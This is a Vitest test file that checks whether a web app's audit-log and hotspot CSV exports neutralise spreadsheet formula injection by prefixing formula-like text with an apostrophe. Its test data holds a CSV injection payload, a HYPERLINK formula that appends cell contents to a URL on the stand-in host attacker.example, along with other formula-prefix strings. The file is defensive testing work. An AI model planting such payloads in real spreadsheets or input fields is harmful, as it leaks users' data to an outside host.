// CSV exports opened in a spreadsheet: text that begins like a formula (=, +, -, @, tab, carriage return) is written
// with a leading apostrophe, so that it shows as text instead of running; numbers stay numbers (OWASP CSV injection).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { miniProvince } from '../fixtures/mini-province';
import { createTestApp, type TestApp } from '../helpers/app';
import { loginRequest, signIn } from '../helpers/auth';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp(miniProvince);
});
afterAll(() => t.close());

const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tcmd',
  '\r=1',
];

describe('CSV exports and spreadsheet formulas', () => {
  it('writes a sign-in name that looks like a formula into the audit CSV as text', async () => {
    const attempt = await loginRequest(t, FORMULAS[0]!, 'x'.repeat(12), '10.9.9.9');
    expect(attempt.status).toBe(401);
    const admin = await signIn(t, 'admin');
    const csv = await (await admin.get('/api/audit/export.csv')).text();
    const rows = parse(csv, { bom: true, columns: true, relax_quotes: true }) as Record<string, string>[];
    const failed = rows.filter((r) => r.action === 'login_failed');
    expect(failed.map((r) => r.actor)).toEqual([`'${FORMULAS[0]}`]);
  });

  it('writes hotspot addresses that look like formulas into the hotspot CSV as text, and coordinates as numbers', async () => {
    const police = await signIn(t, 'police');
    for (const [i, address] of FORMULAS.entries()) {
      const res = await police.send('POST', '/api/hotspots', {
        location: [106.02 + i * 0.002, 10.02],
        address,
        kind: 'diem',
        activities: ['selling'],
        detectedOn: '2024-06-01',
        note: '',
      });
      expect(res.status, await res.clone().text()).toBe(201);
    }
    const csv = await (await police.get('/api/hotspots/export?format=csv&date=2024-06-30')).text();
    const rows = parse(csv, { bom: true }) as string[][];
    const mine = rows.slice(1).filter((r) => r[6] === '01/06/2024' && r[8]!.startsWith('106.0'));
    // Leading blanks (the tab, the carriage return) are trimmed when the hotspot is saved; what remains is escaped.
    expect(mine.map((r) => r[1]).sort()).toEqual(
      [`'${FORMULAS[0]}`, "'+1+1", "'-2+3", "'@SUM(A1:A9)", 'cmd', "'=1"].sort(),
    );
    for (const r of mine) expect(r[7]).toBe('10.02'); // latitude: a number, not escaped
  });
});
